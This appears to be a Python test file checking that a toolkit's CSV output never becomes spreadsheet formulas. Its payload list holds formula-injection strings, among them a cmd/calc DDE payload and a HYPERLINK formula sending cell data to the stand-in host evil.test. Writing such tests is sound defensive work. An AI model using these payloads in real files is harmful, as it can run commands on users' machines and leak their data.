"""A09: what we write as CSV is opened in a spreadsheet as text and numbers, never as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from toolkit.core.outcome import Outcome
from toolkit.shell.blocks import Column, Table, Words
from toolkit.shell.messages import Messages
from toolkit.shell.say import Say
from toolkit.shell.screen import Screen

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
    "=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.test?x="&A1,"bấm")', "\u200b=1+1", "\u00a0=1+1", "−1+1", '"=1+1"',
    "=1+1;=2+2", "%0A=1+1",
]  # fmt: skip


def written(cell: str) -> list[list[str]]:
    """The rows of the CSV, as a reader sees them, with `cell` in every place that a foreign text can stand in."""
    out = io.StringIO()
    table = Table([Column("a"), Column(cell)], [(cell, Words("shell.place_file", file=cell)), (1, -5)])
    Say(Messages(), Screen(out, {}), Screen(io.StringIO(), {}), "csv")(Outcome(0), lambda _: [table])
    return list(csv.reader(io.StringIO(out.getvalue())))


def as_a_spreadsheet_would(rows: list[list[str]]) -> set[str]:
    """The types of the cells after openpyxl has put each text into a cell: `f` is a formula."""
    from openpyxl import Workbook

    sheet = Workbook().active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    return {cell.data_type for line in sheet.iter_rows() for cell in line}


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_becomes_a_formula(formula: str) -> None:
    rows = written(formula)
    assert "f" not in as_a_spreadsheet_would(rows)
    for cell in (cell for row in rows for cell in row):
        assert cell.lstrip()[:1] not in set("=+@＝＋－＠−")


def test_numbers_stay_numbers() -> None:
    assert written("x")[2] == ["1", "-5"]


@given(st.text(st.sampled_from("=+-@\t\r\n ＝'\"|!A1;,\u200b"), max_size=12))
def test_no_mixture_becomes_a_formula(text: str) -> None:
    for cell in (cell for row in written(text) for cell in row):
        plain = cell.lstrip(" \t\r\n\u200b")
        assert plain[:1] not in set("=+@＝")
        assert not plain.startswith("-") or plain.lstrip("-+").replace(".", "").replace(",", "").isdigit()
